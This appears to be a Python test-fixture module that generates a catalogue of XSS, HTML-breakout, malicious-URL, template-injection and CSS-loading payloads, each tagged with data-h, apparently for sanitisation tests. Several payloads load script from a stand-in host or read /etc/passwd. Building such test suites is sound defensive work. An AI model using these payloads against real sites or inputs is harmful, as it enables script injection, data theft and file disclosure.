"""Texts that would run a script, load something from elsewhere or break out of where they stand, if anything read them as
anything but text. Each tag in them carries the attribute `data-h`, by which the tests find it where one was made."""

from __future__ import annotations

import itertools

ELSEWHERE = "http://elsewhere.example/x"
RUN = "window.ran=1;alert(1)"
TAGS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "marquee", "iframe",
    "object data=x", "select autofocus", "textarea autofocus", "style", "math", "link rel=stylesheet href=x", "form", "button",
    "embed src=x",
)  # fmt: skip
EVENTS = (
    "onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onpointerenter", "onanimationstart", "onbegin",
    "onpageshow",
)  # fmt: skip
BREAKS = (
    '"', "'", "`", '">', "'>", "--><", "]]>", "</textarea>", "</title>", "</script>", "</style>", "</template>",
    "</noscript>", "\\u003c/script\\u003e", "*/", "}", "\\", "&quot;>", "&#34;&#62;", "%22%3E", "%3C/script%3E", "\u2028",
)  # fmt: skip
SCRIPTS = (
    f"<script data-h>{RUN}</script>", f"<ScRiPt data-h>{RUN}</sCrIpT>", f"<script data-h src={ELSEWHERE}></script>",
    f"<script data-h type=module>import '{ELSEWHERE}'</script>", f"<scr<script data-h>ipt>{RUN}</script>",
    f"<script data-h\n>{RUN}</script\n>", f"<script/data-h>{RUN}</script>", f"<svg data-h><script>{RUN}</script></svg>",
    f"<!--<script data-h>--><script data-h>{RUN}</script>", f"<math data-h><mtext><script>{RUN}</script></mtext></math>",
    f"<template data-h><script>{RUN}</script></template>", f"<noscript data-h><p title='</noscript><img data-h src=x onerror={RUN}>'>",
    f"＜script data-h＞{RUN}＜/script＞", f"\u202e<script data-h>{RUN}</script>", f"<script data-h>{RUN}//",
    f"&lt;script data-h&gt;{RUN}&lt;/script&gt;", f"&amp;lt;script&amp;gt;{RUN}", f"%3Cscript%3E{RUN}%3C/script%3E",
)  # fmt: skip
URLS = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"&#106;avascript:{RUN}", f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)", ELSEWHERE,
    "//elsewhere.example/x", "\\\\elsewhere.example\\x", "file:///etc/passwd", "blob:null/x",
)  # fmt: skip
IN_MARKUP = (
    "<a data-h href='{}'>x</a>", "<img data-h src='{}'>", "<iframe data-h src='{}'></iframe>", "<form data-h action='{}'>",
    "<link data-h rel=stylesheet href='{}'>", "<meta data-h http-equiv=refresh content='0;url={}'>", "[x]({})", "![x]({})",
    "<base data-h href='{}'>", "<{}>",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}",
    "{person.password_hash}", "%s%s%s%n", "{n}", "$&$`$'", "__proto__", "constructor",
)  # fmt: skip
STYLES = (
    f"<style data-h>@import '{ELSEWHERE}';</style>", f"<style data-h>*{{background:url({ELSEWHERE})}}</style>",
    f"<p data-h style='background:url({ELSEWHERE})'>x</p>", "<p data-h style='position:fixed;inset:0;z-index:9999'>x</p>",
)  # fmt: skip
WORLDLY = (
    "<xss data-h autofocus tabindex=1 onfocus=alert(1)>", "<custom-element data-h is=x>", "<svg data-h><use href='data:x'/></svg>",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$", f"```html\n<img data-h src=x onerror={RUN}>\n```", "=HYPERLINK(\"http://elsewhere.example\")",
    f"<img data-h src={ELSEWHERE} width=1>", f"<img data-h srcset='{ELSEWHERE} 1x'>", f"<video data-h poster={ELSEWHERE}>",
    "<p data-h id=words>{\"x\": 1}</p>", "<form data-h id=facts><input data-h name=textContent>", "こんにちは<b data-h>太字</b>",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each once, in an order that is always the same."""
    found = [f"<{tag} data-h {event}={RUN}>" for tag, event in itertools.product(TAGS, EVENTS)]
    found += [f"{end}<img data-h src=x onerror={RUN}>" for end in BREAKS]
    found += [f'{end} onmouseover={RUN} data-h x="' for end in BREAKS[:3]]
    found += [form.format(url) for form, url in itertools.product(IN_MARKUP, URLS)]
    found += [*SCRIPTS, *TEMPLATES, *STYLES, *WORLDLY]
    return list(dict.fromkeys(found))
